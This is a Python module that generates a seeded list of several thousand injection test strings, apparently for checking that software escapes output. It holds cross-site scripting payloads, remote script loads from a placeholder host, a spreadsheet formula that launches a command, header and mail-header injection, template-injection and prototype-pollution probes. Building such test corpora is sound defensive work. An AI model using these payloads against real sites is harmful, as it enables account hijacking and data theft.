"""Strings that run as code where somebody forgets to escape them. Made here out of grammars, always the same.

Each tries three things where it can: to set `window.CANARY`, to open a dialog, to fetch something from `HOST`.
"""

import random
from collections.abc import Callable, Iterator
from itertools import product
from urllib.parse import quote

SEED = 3
COUNT = 3114
CANARY = "fondacoCanary"
HOST = "canary.invalid"

_CODE = (
    f"window.{CANARY}=1",
    f"{CANARY}=1",
    f"top['{CANARY}']=1",
    "alert(1)",
    "confirm`1`",
    f"fetch('//{HOST}/x')",
    f"new Image().src='//{HOST}/i'",
    f"import('//{HOST}/m.js')",
    f"eval('{CANARY}=1')",
    f"setTimeout('{CANARY}=1')",
)
_EVENTS = {
    "img": ("onerror", "onload"),
    "svg": ("onload", "onbegin"),
    "body": ("onload", "onpageshow", "onhashchange"),
    "video": ("onerror", "onloadstart"),
    "audio": ("onerror", "oncanplay"),
    "input": ("onfocus", "onblur", "oninput"),
    "details": ("ontoggle",),
    "iframe": ("onload",),
    "object": ("onerror",),
    "marquee": ("onstart", "onfinish"),
    "select": ("onfocus",),
    "div": ("onmouseover", "onpointerenter", "onanimationstart", "onclick"),
    "a": ("onclick", "onmouseenter", "onfocus"),
    "form": ("onsubmit", "onreset"),
    "xss": ("onfocus", "onfocusin", "ontransitionend", "onbeforematch"),
    "style": ("onload", "onerror"),
}
_HELP = {
    "img": "src=x",
    "video": "src=x",
    "audio": "src=x",
    "input": "autofocus",
    "details": "open",
    "object": "data=x",
    "select": "autofocus",
    "div": "style='animation:x 1s'",
    "xss": "tabindex=1 autofocus",
    "a": "href=#",
}
_SPACES = (" ", "/", "\n", "\t", "\f", "/*/", "  ")
_BEFORE = (
    "",
    '">',
    "'>",
    "-->",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "</pre>",
    "</noscript>",
    "]]>",
    '\\">',
    "`>",
)
_LINKED = (
    "a href",
    "form action",
    "iframe src",
    "object data",
    "embed src",
    "svg><a xlink:href",
    "math><mi xlink:href",
    "area href",
)
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "vbscript:")
_FETCHING = """
<img src={}i> | <img srcset='{}i 1x'> | <picture><source srcset={}p><img> |
<link rel=stylesheet href={}c> | <link rel=prefetch href={}> | <link rel=icon href={}> | <base href={}> |
<meta http-equiv=refresh content='0;url={}'> | <iframe src={}> | <embed src={}> | <object data={}> |
<video poster={}> | <audio src={} autoplay> | <form action={}><button>x |
<input type=image src={} formaction={}> | <button form=f formaction={}>x | <table background={}> |
<body background={}> | <svg><image href={} /></svg> | <svg><use href='{}#x'></svg> |
<svg><feImage href={}> | <style>@import '{}';</style> | <style>*{{background:url({})}}</style> |
<p style=background:url({})> | <a ping={} href=#>x</a> | <track src={}> | ![x]({}) | [x]({}) | [x](<{}>) |
[1]: {} 'x' | <{}> | "><img src='{} | =HYPERLINK("{}") | =IMAGE("{}")
"""
_DATA = ("data:text/html,<script>{}</script>", "data:image/svg+xml,<svg onload={}>", "data:text/javascript,{}")


def xss_strings() -> tuple[str, ...]:
    """Return all strings, each once, in a fixed order in which families are mixed."""
    chance = random.Random(SEED)
    taken: dict[str, None] = {}
    for share, family in _FAMILIES:
        found = list(dict.fromkeys(family()))
        taken.update(dict.fromkeys(chance.sample(found, min(share, len(found)))))
    rest = [text for text in dict.fromkeys(_handlers()) if text not in taken]
    taken.update(dict.fromkeys(chance.sample(rest, COUNT - len(taken))))
    strings = list(taken)
    chance.shuffle(strings)
    return tuple(strings)


def _handlers() -> Iterator[str]:
    """Yield elements with a handler: tag x event x code x white space x quotes x what is closed before."""
    for before, (tag, events), space, mark in product(_BEFORE, _EVENTS.items(), _SPACES, ("", '"', "'")):
        for event, code in product(events, _CODE):
            if not (mark == "'" and "'" in code) and not (not mark and " " in code):
                help_ = f"{space}{_HELP[tag]}" if tag in _HELP else ""
                yield f"{before}<{tag}{help_}{space}{event}={mark}{code}{mark}>"


def _cased() -> Iterator[str]:
    """Yield elements in odd spellings: case, unclosed, doubled, split by what filters take away."""
    for (tag, events), code in product(_EVENTS.items(), _CODE):
        plain = f"<{tag} {_HELP.get(tag, '')} {events[0]}={code}>"
        odd = "".join(c.upper() if n % 2 else c for n, c in enumerate(tag))
        yield from (plain.replace(f"<{tag}", f"<{odd}", 1), plain.upper(), plain[:-1], f"<{plain}", plain + "//")
        yield plain.replace(f"<{tag}", f"<{tag[:1]}<script>{tag[1:]}", 1)
        yield from (f"<\0{plain[1:]}", plain.replace("on", "o\0n"), f"\ufeff{plain}", plain.replace("<", "\uff1c"))


def _scripts() -> Iterator[str]:
    forms = (
        "<script>{}</script>",
        "<script>{}",
        "<SCRIPT>{}</SCRIPT >",
        "<script\n>{}</script\t>",
        "<script/x>{}</script>",
        "<script type=module>{}</script>",
        "<script>//<!--\n{}</script>",
        "<svg><script>{}</script></svg>",
        "<svg><script>/*&lt;*/{}</script>",
        "<scr<script>ipt>{}</scr</script>ipt>",
        "<template><script>{}</script></template>",
        "<noscript><p title='</noscript><script>{}</script>'>",
        "<xmp><p title='</xmp><script>{}</script>'>",
    )
    for before, form, code in product(_BEFORE, forms, _CODE):
        yield before + form.format(code)
    for before, end in product(_BEFORE, ("></script>", " defer></script>", "//", "?")):
        yield f"{before}<script src=//{HOST}/s.js{end}"


def _addresses() -> Iterator[str]:
    """Yield addresses that run, alone (for fields that are links) and as links of every kind."""
    for scheme, code in product(_SCHEMES, _CODE):
        yield f"{scheme}{code}"
        yield f"{scheme}//{HOST}/%0a{code}"
        yield f"{scheme}//https://www.simest.it/%0d%0a{quote(code)}"
        for place in _LINKED:
            yield f'<{place}="{scheme}{code}">x</a>'
    for form, code in product(_DATA, _CODE):
        yield form.format(code)
        yield f'<iframe src="{form.format(code)}">'
    yield from (
        f"//{HOST}/",
        f"\\\\{HOST}\\",
        f"/\\{HOST}",
        f"https:{HOST}",
        f"http://{HOST}@x/",
        f"https://x/'onclick='{CANARY}=1",
    )


def _attributes() -> Iterator[str]:
    """Yield what leaves the value of an attribute, or its name."""
    ends = (
        '"',
        "'",
        "`",
        '" ',
        "' ",
        '"\n',
        '"/',
        "\\'",
        '\\"',
        "&quot;",
        "&#34;",
        "&#x27;",
        "%22",
        "\u201d",
        '"autofocus ',
        '"tabindex=1 ',
    )
    for end, event, code in product(ends, ("onfocus", "onmouseover", "onclick", "onerror", "onload", "ontoggle"), _CODE):
        yield f"x{end}{event}={code} x={end}"
    for end, what in product(
        ends, ("style=x:expression(1)", f"style=background:url(//{HOST}/b)", "srcdoc=<b>", f"formaction=//{HOST}/f")
    ):
        yield f"x{end}{what} {end}"


def _encoded() -> Iterator[str]:
    """Yield encodings that somebody might take back once too often."""
    for (tag, events), code in product(_EVENTS.items(), _CODE[:6]):
        plain = f"<{tag} {_HELP.get(tag, '')} {events[0]}={code}>"
        named = plain.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        yield from (named, named.replace("&", "&amp;"), quote(plain), quote(quote(plain)))
        yield "".join(f"&#{ord(c)};" for c in plain)
        yield "".join(f"&#x{ord(c):05x}" for c in plain)
        yield "".join(f"\\u{ord(c):04x}" for c in plain)
        yield "".join(f"\\x{ord(c):02x}" if c in "<>\"'=" else c for c in plain)
        yield plain.replace("<", "+ADw-").replace(">", "+AD4-")
        yield plain.replace("<", "\u02c2").replace(">", "\u02c3")


def _namespaces() -> Iterator[str]:
    """Yield what changes its meaning when it is written out and read again."""
    inner = [f"<img src=x onerror={code}>" for code in _CODE if " " not in code]
    wraps = (
        "<math><mtext><table><mglyph><style><!--</style>{}",
        "<svg></p><style><a id='</style>{}'>",
        "<form><math><mtext></form><form><mglyph><style></math>{}",
        "<svg><desc><noscript></desc>{}",
        "<select><template><style></select>{}",
        "<table><caption><svg><title>{}",
        "<!--><!---->{}<!-->",
        "<![CDATA[{}]]>",
        "<?xml version='1.0'?>{}",
        "<noembed><a title='</noembed>{}'>",
        "<plaintext>{}",
        "<svg><foreignObject>{}</foreignObject></svg>",
        "<frameset>{}",
    )
    for wrap, one in product(wraps, inner):
        yield wrap.format(one)


def _fetching() -> Iterator[str]:
    """Yield what runs no code and yet tells somebody else who reads, or sends a form there."""
    forms = [form.strip() for form in _FETCHING.split("|")]
    for form, address in product(forms, (f"//{HOST}/", f"https://{HOST}/", f"http://{HOST}/?", f"https:/\\{HOST}/")):
        yield form.format(address, address)


def _other_formats() -> Iterator[str]:
    """Yield what breaks out of other formats: tables, calendars, feeds, mail, headers, PDF, templates, streams, JSON."""
    for sign, formula in product("=+-@\t\r", ("1+1", "cmd|' /C calc'!A0", f'HYPERLINK("//{HOST}")', "SUM(A1:A9)", "DDE(1;2)")):
        yield from (f"{sign}{formula}", f'"{sign}{formula}"', f" {sign}{formula}", f"x,{sign}{formula}", f"x;{sign}{formula}")
    for line, end in product(("\r\n", "\n", "\r", "\u2028", "%0d%0a", "\\n"), ("", " ", "\t")):
        yield f"x{line}{end}Set-Cookie: {CANARY}=1"
        yield f"x{line}{end}Location: //{HOST}/"
        yield f"x{line}END:VEVENT{line}BEGIN:VALARM{line}ACTION:AUDIO{line}ATTACH:https://{HOST}/"
        yield f"x{line}Bcc: x@{HOST}"
        yield f"x{line}{line}event: done{line}data: {{}}{line}{line}"
        yield f"x{line}{line}<script>{CANARY}=1</script>"
    yield from (f"?bcc=x@{HOST}", f"&bcc=x@{HOST}&attach=x", f"%26cc=x@{HOST}", "x,y@z", f'"<x@{HOST}>"')
    yield from (f"]]><script>{code}</script><![CDATA[" for code in _CODE)
    yield from (f"</item><item><link>javascript:{code}</link>" for code in _CODE)
    yield from (
        f"{end}{code}//" for end, code in product(("';", '";', "`;", "${", "\\';", "</script>;", "*/", "\u2029"), _CODE)
    )
    yield from (f"{{{{{code}}}}}" for code in (*_CODE, "7*7", "''.__class__", "config", "cycler.__init__"))
    yield from (
        f"{opened}{code}{closed}" for (opened, closed), code in product((("{%", "%}"), ("${", "}"), ("<%=", "%>")), _CODE)
    )
    yield from (f") /S /URI /A << /S /JavaScript /JS ({code}) >> (" for code in _CODE)
    yield from (
        f'"}},"{CANARY}":1,"x":{{"',
        '{"__proto__":{"' + CANARY + '":1}}',
        "__proto__",
        "constructor",
        "{question}",
        "{0.__class__}",
    )


_FAMILIES: tuple[tuple[int, Callable[[], Iterator[str]]], ...] = (
    (400, _cased),
    (350, _scripts),
    (350, _addresses),
    (350, _attributes),
    (300, _encoded),
    (100, _namespaces),
    (136, _fetching),
    (250, _other_formats),
)
